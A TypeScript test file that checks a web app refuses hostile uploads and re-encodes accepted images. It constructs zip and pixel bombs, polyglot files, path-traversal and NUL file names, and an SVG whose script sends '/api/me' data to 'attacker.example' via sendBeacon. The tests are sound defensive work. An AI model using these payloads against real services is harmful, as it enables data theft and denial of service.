/**
 * Hostile uploads (issue #8, part 2): a corpus of our own making — every file
 * is built here, with sharp or by hand — sent to the capture upload and to
 * two document slots (a right's proof, a counter-notice's evidence). Each is
 * refused with its own code, and nothing is stored: no row in any table, no
 * audit entry, no new blob file. Then the other half of the promise: an
 * accepted image is shown only as a re-encoded rendition without the
 * original's metadata, and its original bytes go out only as a download.
 */
import { randomUUID } from 'node:crypto';
import { request as httpRequest } from 'node:http';
import type { AddressInfo } from 'node:net';
import { crc32, deflateRawSync, deflateSync } from 'node:zlib';
import { serve, type ServerType } from '@hono/node-server';
import { IDEMPOTENCY_HEADER, LIMITS, type CaptureReceipt, type Right } from '@openipp/shared';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { bearer, createHarness, loginBearer, sampleMeta, sha256, upload, type Harness } from '../testing/harness';
import { pdfBytes } from '../testing/registration';
// Nothing stored: row counts (rate-limit counters aside), the audit chain's head, and the blob files.
import { problem, stateOf } from './side-effects';

type Bytes = Uint8Array<ArrayBuffer>;
interface FilePart {
  bytes: Bytes;
  name: string;
  type: string;
}

const concat = (...parts: Uint8Array[]): Bytes => new Uint8Array(Buffer.concat(parts));
const text = (value: string): Bytes => new Uint8Array(Buffer.from(value, 'utf8'));

function pngChunk(type: string, data: Uint8Array): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

/** Puts a chunk right after IHDR (8-byte signature + 25-byte IHDR chunk). */
function withPngChunk(png: Uint8Array, type: string, data: Uint8Array): Bytes {
  return concat(png.subarray(0, 33), pngChunk(type, data), png.subarray(33));
}

/** A well-formed PNG header claiming 20000 × 20000 pixels over a few bytes of data: a decompression bomb in miniature. */
function pixelBombPng(): Bytes {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(20_000, 0);
  ihdr.writeUInt32BE(20_000, 4);
  ihdr[8] = 8; // bit depth
  ihdr[9] = 2; // truecolour
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return concat(signature, pngChunk('IHDR', ihdr), pngChunk('IDAT', deflateSync(Buffer.alloc(64))), pngChunk('IEND', Buffer.alloc(0)));
}

/** A real small JPEG whose frame header is rewritten to claim 60000 × 60000 pixels. */
function pixelBombJpeg(jpeg: Uint8Array): Bytes {
  const bytes = Buffer.from(jpeg);
  for (let pos = 2; pos + 9 < bytes.length; ) {
    const marker = bytes[pos + 1]!;
    const length = bytes.readUInt16BE(pos + 2);
    if (marker >= 0xc0 && marker <= 0xc2) {
      bytes.writeUInt16BE(60_000, pos + 5);
      bytes.writeUInt16BE(60_000, pos + 7);
      return new Uint8Array(bytes);
    }
    pos += 2 + length;
  }
  throw new Error('no frame header in the JPEG');
}

/** A one-entry zip archive built by hand: `size` zero bytes deflated to a few dozen kilobytes. */
function zipBomb(size: number): Bytes {
  const content = Buffer.alloc(size);
  const data = deflateRawSync(content, { level: 9 });
  const name = Buffer.from('evidence.txt');
  const crc = crc32(content);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt16LE(8, 8); // deflate
  local.writeUInt32LE(crc, 14);
  local.writeUInt32LE(data.length, 18);
  local.writeUInt32LE(size, 22);
  local.writeUInt16LE(name.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(20, 6);
  central.writeUInt16LE(8, 10);
  central.writeUInt32LE(crc, 16);
  central.writeUInt32LE(data.length, 20);
  central.writeUInt32LE(size, 24);
  central.writeUInt16LE(name.length, 28);
  const centralOffset = local.length + name.length + data.length;
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length + name.length, 12);
  end.writeUInt32LE(centralOffset, 16);
  return concat(local, name, data, central, name, end);
}

const SVG_WITH_SCRIPT = text(
  '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64"><script>fetch("/api/me").then(r=>r.text()).then(t=>navigator.sendBeacon("https://attacker.example/",t))</script><rect width="64" height="64"/></svg>',
);
const HTML_TAIL = text('<html><body><script>alert(document.cookie)</script></body></html>');

// ---------------------------------------------------------------- the corpus

let h: Harness;
let owner: string;
let seller: string;
let png: Bytes;
let jpeg: Bytes;
let zip: Bytes;

const trademark = (n: number) => ({
  type: 'trademark',
  registrationNumber: `TM-CORPUS-${n}`,
  territories: ['CN'],
  niceClasses: [25],
  validFrom: '2020-01-01',
  validUntil: '2039-12-31',
});
const counterNoticeData = {
  statement: 'The listing sells our own genuine goods, bought from the brand’s distributor.',
  identity: { legalName: 'Example Seller Ltd.', registrationNumber: '91310000EXAMPLE01', address: '1 Example Road, Shanghai', email: 'seller@example.test', phone: '+86 21 5555 0199' },
  declaration: true,
};

let rightCounter = 0;
/** The three slots, each taking one hostile file the way a client would send it. */
const SLOTS = {
  capture: {
    field: 'screenshot',
    send: (file: FilePart) => upload(h, bearer(owner), randomUUID(), { meta: sampleMeta({ title: 'hostile upload' }), file }),
  },
  'right proof': {
    field: 'proof[0]',
    send: (file: FilePart) => {
      const form = new FormData();
      form.append('data', JSON.stringify(trademark(++rightCounter)));
      form.append('proof', new Blob([file.bytes], { type: file.type }), file.name);
      return h.app.request('/api/rights', { method: 'POST', headers: bearer(owner), body: form });
    },
  },
  'counter-notice evidence': {
    field: 'evidence[0]',
    // The files are checked before the listing is looked up, so any listing id reaches the checks.
    send: (file: FilePart) => {
      const form = new FormData();
      form.append('data', JSON.stringify(counterNoticeData));
      form.append('evidence', new Blob([file.bytes], { type: file.type }), file.name);
      return h.app.request(`/api/seller/listings/${randomUUID()}/counter-notice`, { method: 'POST', headers: bearer(seller), body: form });
    },
  },
} as const;
type Slot = keyof typeof SLOTS;
const IMAGE_SLOTS: Slot[] = ['capture', 'right proof', 'counter-notice evidence'];
const DOCUMENT_SLOTS: Slot[] = ['right proof', 'counter-notice evidence'];

interface HostileCase {
  name: string;
  slots: Slot[];
  file: () => FilePart;
  status: number;
  code: string;
  /** For validation_failed: the field error's code. */
  fieldCode?: string;
}

const CASES: HostileCase[] = [
  {
    name: 'a PNG with its magic bytes broken',
    slots: IMAGE_SLOTS,
    file: () => {
      const bytes = png.slice();
      bytes[1] = 0x58; // ‰XNG
      return { bytes, name: 'shot.png', type: 'image/png' };
    },
    status: 415,
    code: 'unsupported_file_type',
  },
  {
    name: 'a JPEG with its magic bytes broken',
    slots: IMAGE_SLOTS,
    file: () => {
      const bytes = jpeg.slice();
      bytes[0] = 0x00;
      return { bytes, name: 'shot.jpg', type: 'image/jpeg' };
    },
    status: 415,
    code: 'unsupported_file_type',
  },
  { name: 'JPEG bytes labelled as a PNG', slots: IMAGE_SLOTS, file: () => ({ bytes: jpeg, name: 'shot.png', type: 'image/png' }), status: 422, code: 'file_type_mismatch' },
  { name: 'a PNG that is also a zip archive', slots: IMAGE_SLOTS, file: () => ({ bytes: concat(png, zip), name: 'shot.png', type: 'image/png' }), status: 422, code: 'trailing_data' },
  { name: 'a PNG that is also an HTML page', slots: IMAGE_SLOTS, file: () => ({ bytes: concat(png, HTML_TAIL), name: 'shot.png', type: 'image/png' }), status: 422, code: 'trailing_data' },
  { name: 'a JPEG that is also a zip archive', slots: IMAGE_SLOTS, file: () => ({ bytes: concat(jpeg, zip), name: 'shot.jpg', type: 'image/jpeg' }), status: 422, code: 'trailing_data' },
  { name: 'a PDF that is also a zip archive', slots: DOCUMENT_SLOTS, file: () => ({ bytes: concat(pdfBytes('polyglot'), zip), name: 'proof.pdf', type: 'application/pdf' }), status: 422, code: 'trailing_data' },
  { name: 'an SVG with a script', slots: IMAGE_SLOTS, file: () => ({ bytes: SVG_WITH_SCRIPT, name: 'logo.svg', type: 'image/svg+xml' }), status: 415, code: 'unsupported_file_type' },
  { name: 'an SVG with a script, labelled as a PNG', slots: IMAGE_SLOTS, file: () => ({ bytes: SVG_WITH_SCRIPT, name: 'logo.png', type: 'image/png' }), status: 415, code: 'unsupported_file_type' },
  { name: 'a PNG pixel bomb (20000 × 20000 in under 200 bytes)', slots: IMAGE_SLOTS, file: () => ({ bytes: pixelBombPng(), name: 'shot.png', type: 'image/png' }), status: 422, code: 'image_too_large' },
  { name: 'a JPEG pixel bomb (60000 × 60000)', slots: IMAGE_SLOTS, file: () => ({ bytes: pixelBombJpeg(jpeg), name: 'shot.jpg', type: 'image/jpeg' }), status: 422, code: 'image_too_large' },
  { name: 'a zip bomb (64 MiB of zeros) named as a PDF', slots: DOCUMENT_SLOTS, file: () => ({ bytes: zip, name: 'proof.pdf', type: 'application/pdf' }), status: 415, code: 'unsupported_file_type' },
  { name: 'a zip bomb sent as a zip', slots: DOCUMENT_SLOTS, file: () => ({ bytes: zip, name: 'proof.zip', type: 'application/zip' }), status: 415, code: 'unsupported_file_type' },
  ...(
    [
      ['a relative path', '../../etc/passwd.png'],
      ['an absolute path', '/etc/passwd.png'],
      ['a Windows path', 'C:\\Windows\\System32\\shot.png'],
      ['a NUL in the name', 'shot.png\u0000.exe.png'],
      ['a right-to-left override hiding the extension', 'invoice\u202Egnp.exe.png'],
      ['a name that is only ..', '..'],
    ] as const
  ).map(
    ([what, name]): HostileCase => ({
      name: `a file name with ${what} (${JSON.stringify(name)})`,
      slots: IMAGE_SLOTS,
      file: () => ({ bytes: png, name, type: 'image/png' }),
      status: 400,
      code: 'validation_failed',
      fieldCode: 'unsafe_file_name',
    }),
  ),
];

beforeAll(async () => {
  h = await createHarness({ writeRateLimit: { windowSeconds: 60, maxPerWindow: 100_000 } });
  owner = await loginBearer(h, 'owner@demo.test');
  seller = await loginBearer(h, 'seller@demo.test');
  png = new Uint8Array(await sharp({ create: { width: 64, height: 48, channels: 3, background: '#2a6fdb' } }).png().toBuffer());
  jpeg = new Uint8Array(await sharp({ create: { width: 64, height: 48, channels: 3, background: '#db6f2a' } }).jpeg().toBuffer());
  zip = zipBomb(64 * 1024 * 1024);
});
afterAll(() => h.close());

describe('the corpus itself', () => {
  it('is what it claims: honest files are accepted by every slot, so each refusal below is about the hostile part', async () => {
    // The zip really expands a thousandfold and more.
    expect(zip.byteLength).toBeLessThan(128 * 1024);
    // The honest PNG and JPEG go in; so does a progressive JPEG and one with EXIF (no false "trailing data").
    const progressive = new Uint8Array(await sharp(png).jpeg({ progressive: true }).withExif({ IFD0: { Copyright: 'corpus' } }).toBuffer());
    for (const file of [
      { bytes: png, name: 'shot.png', type: 'image/png' },
      { bytes: jpeg, name: 'shot.jpg', type: 'image/jpeg' },
      { bytes: progressive, name: 'shot.jpeg', type: 'image/jpeg' },
    ]) {
      expect((await SLOTS.capture.send(file)).status).toBe(201);
      expect((await SLOTS['right proof'].send(file)).status).toBe(201);
    }
    expect((await SLOTS['right proof'].send({ bytes: pdfBytes('honest'), name: 'proof.pdf', type: 'application/pdf' })).status).toBe(201);
    // The counter-notice slot reaches the listing lookup once the files pass: the demo seller has no such listing.
    const res = await SLOTS['counter-notice evidence'].send({ bytes: png, name: 'shot.png', type: 'image/png' });
    expect([res.status, (await problem(res)).code]).toEqual([404, 'not_found']);
  });
});

describe('hostile files are refused with their code, and nothing is stored', () => {
  const runs = CASES.flatMap((c) => c.slots.map((slot) => ({ ...c, slot, label: `${slot}: ${c.name}` })));
  it.each(runs)('$label → $status $code', async ({ slot, file, status, code, fieldCode }) => {
    const before = stateOf(h);
    const res = await SLOTS[slot].send(file());
    const body = await problem(res);
    expect([res.status, body.code]).toEqual([status, code]);
    expect(body.status).toBe(status);
    if (fieldCode) expect(body.errors).toEqual([expect.objectContaining({ path: SLOTS[slot].field, code: fieldCode })]);
    expect(stateOf(h)).toEqual(before);
  });

  it('a NUL in a file name sent raw on the wire is refused too', async () => {
    const boundary = 'corpus-boundary';
    const body = concat(
      text(`--${boundary}\r\nContent-Disposition: form-data; name="meta"\r\n\r\n${JSON.stringify(sampleMeta())}\r\n`),
      text(`--${boundary}\r\nContent-Disposition: form-data; name="screenshot"; filename="../evil\u0000.png"\r\nContent-Type: image/png\r\n\r\n`),
      png,
      text(`\r\n--${boundary}--\r\n`),
    );
    const before = stateOf(h);
    const res = await h.app.request('/api/captures', {
      method: 'POST',
      headers: { ...bearer(owner), [IDEMPOTENCY_HEADER]: randomUUID(), 'Content-Type': `multipart/form-data; boundary=${boundary}` },
      body,
    });
    const problemBody = await problem(res);
    expect([res.status, problemBody.code, problemBody.errors?.[0]?.code]).toEqual([400, 'validation_failed', 'unsafe_file_name']);
    expect(stateOf(h)).toEqual(before);
  });
});

describe('a chunked body over the cap, without Content-Length, through a real HTTP server', () => {
  let server: ServerType;
  let port: number;
  beforeAll(async () => {
    server = serve({ fetch: h.app.fetch, hostname: '127.0.0.1', port: 0 });
    await new Promise<void>((resolve) => server.once('listening', resolve));
    port = (server.address() as AddressInfo).port;
  });
  afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())));

  /**
   * Streams `total` bytes of a never-ending multipart part in 256 KiB chunks
   * (Transfer-Encoding: chunked), stopping as soon as the server answers.
   */
  function sendChunked(pathname: string, headers: Record<string, string>, total: number): Promise<{ status: number; headers: Record<string, string | string[] | undefined>; body: string; sent: number }> {
    return new Promise((resolve, reject) => {
      const boundary = 'chunked-boundary';
      let sent = 0;
      let answered = false;
      const req = httpRequest({
        host: '127.0.0.1',
        port,
        method: 'POST',
        path: pathname,
        headers: { ...headers, 'Content-Type': `multipart/form-data; boundary=${boundary}`, 'Transfer-Encoding': 'chunked' },
      });
      req.on('response', (res) => {
        answered = true;
        const chunks: Buffer[] = [];
        res.on('data', (chunk: Buffer) => chunks.push(chunk));
        res.on('end', () => resolve({ status: res.statusCode ?? 0, headers: res.headers, body: Buffer.concat(chunks).toString('utf8'), sent }));
        res.on('error', reject);
      });
      // The server may close its side while we still write: that is the refusal working, not a failure.
      req.on('error', (error: NodeJS.ErrnoException) => {
        if (!answered && error.code !== 'EPIPE' && error.code !== 'ECONNRESET') reject(error);
      });
      const head = Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="screenshot"; filename="big.png"\r\nContent-Type: image/png\r\n\r\n`);
      const chunk = Buffer.alloc(256 * 1024, 0x41);
      const pump = () => {
        if (sent === 0) {
          req.write(head);
          sent += head.length;
        }
        while (!answered && sent < total) {
          sent += chunk.length;
          if (!req.write(chunk)) return void req.once('drain', pump);
        }
        if (!answered) req.end();
      };
      pump();
    });
  }

  it.each([
    { name: 'capture upload', pathname: '/api/captures', cap: LIMITS.captureBodyMaxBytes, auth: () => ({ ...bearer(owner), [IDEMPOTENCY_HEADER]: randomUUID() }) },
    { name: 'right with proofs', pathname: '/api/rights', cap: 5 * 10 * 1024 * 1024 + LIMITS.jsonBodyMaxBytes, auth: () => bearer(owner) },
  ])('$name: 413 payload_too_large, nothing stored', async ({ pathname, cap, auth }) => {
    const before = stateOf(h);
    const res = await sendChunked(pathname, auth(), cap + 4 * 1024 * 1024);
    expect(res.status).toBe(413);
    expect(res.headers['content-type']).toBe('application/problem+json');
    expect((JSON.parse(res.body) as { code: string }).code).toBe('payload_too_large');
    expect(stateOf(h)).toEqual(before);
  }, 30_000);
});

describe('accepted images are re-encoded for viewing; the original goes out only as a download', () => {
  const CANARY = `canary-${randomUUID()}`;
  const holdsCanary = (bytes: Uint8Array) => Buffer.from(bytes).includes(CANARY);

  /** A PNG carrying the canary in a tEXt chunk and in EXIF, and a JPEG carrying it in EXIF and a comment. */
  async function taggedImages(): Promise<{ png: Bytes; jpeg: Bytes }> {
    const base = sharp({ create: { width: 400, height: 300, channels: 3, background: '#3a7a3a' } });
    const exif = { IFD0: { ImageDescription: CANARY, Copyright: CANARY } };
    const taggedPng = withPngChunk(await base.clone().png().withExif(exif).toBuffer(), 'tEXt', Buffer.from(`Comment\0${CANARY}`, 'latin1'));
    const plainJpeg = await base.clone().jpeg().withExif(exif).toBuffer();
    const comment = Buffer.concat([Buffer.from([0xff, 0xfe, 0, CANARY.length + 2]), Buffer.from(CANARY, 'latin1')]);
    const taggedJpeg = concat(plainJpeg.subarray(0, 2), comment, plainJpeg.subarray(2));
    return { png: taggedPng, jpeg: taggedJpeg };
  }

  it('a capture: display and thumbnail are new bytes without the metadata; the original is an attachment, byte for byte', async () => {
    const images = await taggedImages();
    for (const [kind, bytes, mime] of [
      ['png', images.png, 'image/png'],
      ['jpg', images.jpeg, 'image/jpeg'],
    ] as const) {
      expect(holdsCanary(bytes)).toBe(true);
      expect((await sharp(bytes).metadata()).exif).toBeDefined();
      const res = await upload(h, bearer(owner), randomUUID(), { meta: sampleMeta({ title: `tagged ${kind}` }), file: { bytes, name: `shot.${kind}`, type: mime } });
      expect(res.status).toBe(201);
      const { id } = (await res.json()) as CaptureReceipt;

      for (const [query, type] of [
        ['', 'image/png'],
        ['?size=thumb', 'image/webp'],
      ] as const) {
        const view = await h.app.request(`/api/captures/${id}/image${query}`, { headers: bearer(owner) });
        expect(view.status).toBe(200);
        expect(view.headers.get('content-type')).toBe(type);
        expect(view.headers.get('x-content-type-options')).toBe('nosniff');
        expect(view.headers.get('content-disposition')).toBeNull();
        const shown = new Uint8Array(await view.arrayBuffer());
        expect(sha256(shown)).not.toBe(sha256(bytes));
        expect(holdsCanary(shown)).toBe(false);
        const meta = await sharp(shown).metadata();
        expect(meta.exif).toBeUndefined();
        expect(meta.comments ?? []).toEqual([]);
        expect(meta.width).toBe(query ? 320 : 400);
      }

      const original = await h.app.request(`/api/captures/${id}/original`, { headers: bearer(owner) });
      expect(original.status).toBe(200);
      expect(original.headers.get('content-disposition')).toMatch(new RegExp(`^attachment; filename="capture-${id}\\.${kind}"$`));
      expect(original.headers.get('content-type')).toBe(mime);
      expect(original.headers.get('x-content-type-options')).toBe('nosniff');
      const kept = new Uint8Array(await original.arrayBuffer());
      expect(sha256(kept)).toBe(sha256(bytes));
      expect(holdsCanary(kept)).toBe(true);
    }
  });

  it('a proof document image: stored as sent, and served only as an attachment (there is no inline rendition of a document)', async () => {
    const { png: tagged } = await taggedImages();
    const form = new FormData();
    form.append('data', JSON.stringify(trademark(9_999)));
    form.append('proof', new Blob([tagged], { type: 'image/png' }), 'certificate.png');
    const res = await h.app.request('/api/rights', { method: 'POST', headers: bearer(owner), body: form });
    expect(res.status).toBe(201);
    const right = (await res.json()) as Right;
    const proof = right.proofs[0]!;
    expect(proof.sha256).toBe(sha256(tagged));

    const download = await h.app.request(`/api/rights/${right.id}/proofs/${proof.id}`, { headers: bearer(owner) });
    expect(download.status).toBe(200);
    expect(download.headers.get('content-disposition')).toMatch(new RegExp(`^attachment; filename="proof-${proof.id}\\.png"; filename\\*=UTF-8''certificate\\.png$`));
    expect(download.headers.get('content-type')).toBe('image/png');
    expect(download.headers.get('x-content-type-options')).toBe('nosniff');
    expect(sha256(new Uint8Array(await download.arrayBuffer()))).toBe(sha256(tagged));

    // Every route that serves an image is either one of the captures' re-encoded renditions or a
    // download through documentDownloadHeaders, as above. A new one fails here until it is placed
    // in one list or the other on purpose.
    const RENDITIONS = ['/api/captures/{id}/image', '/api/captures/{id}/artefacts/{sha256}', '/api/seller/complaints/{id}/captures/{captureId}/image'];
    const DOWNLOADS = [
      '/api/admin/shops/{claimId}/proofs/{documentId}',
      '/api/captures/{id}/original',
      '/api/complaints/{id}/info-documents/{documentId}',
      '/api/counter-notices/{id}/evidence/{documentId}',
      '/api/counter-notices/{id}/proofs/{documentId}',
      '/api/documents/{id}',
      '/api/rights/{id}/proofs/{proofId}',
      '/api/shops/{claimId}/proofs/{documentId}',
    ];
    const doc = (await (await h.app.request('/api/openapi.json')).json()) as { paths: Record<string, Record<string, { responses?: Record<string, { content?: Record<string, unknown> }> }>> };
    const imageRoutes = Object.entries(doc.paths)
      .filter(([, methods]) => Object.keys(methods.get?.responses?.['200']?.content ?? {}).some((type) => type.startsWith('image/')))
      .map(([route]) => route)
      .sort();
    expect(imageRoutes).toEqual([...RENDITIONS, ...DOWNLOADS].sort());
  });
});
